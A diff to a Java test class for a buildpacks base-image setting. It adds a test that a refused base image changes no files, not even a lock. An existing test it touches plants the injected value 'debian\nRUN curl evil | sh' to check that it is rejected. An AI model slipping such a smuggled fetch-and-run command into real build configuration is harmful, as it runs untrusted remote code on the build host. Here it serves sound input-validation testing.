@@ -263,6 +263,15 @@ class BuildpacksTest {
     }
 
     @Test
+    void aRefusedBaseImageChangesNoFileNotEvenALock() {
+        // Run in-process as root (the hostile input test does), a lock file would be root's and break pier's ownership.
+        PierException e = assertThrows(PierException.class, () -> buildpacks.baseImage("debian bookworm"));
+        assertEquals(PierException.USAGE, e.exitCode());
+        assertFalse(Files.exists(home.locks()), "a lock was taken for a value refused anyway");
+        assertFalse(Files.exists(home.settings()));
+    }
+
+    @Test
     void anUnusableBaseImageInTheSettingsFileFailsWithWhereToFixIt() {
         new Settings(home).set(Buildpacks.BASE_IMAGE, "debian\nRUN curl evil | sh");
         PierException e = assertThrows(PierException.class, buildpacks::baseImage);
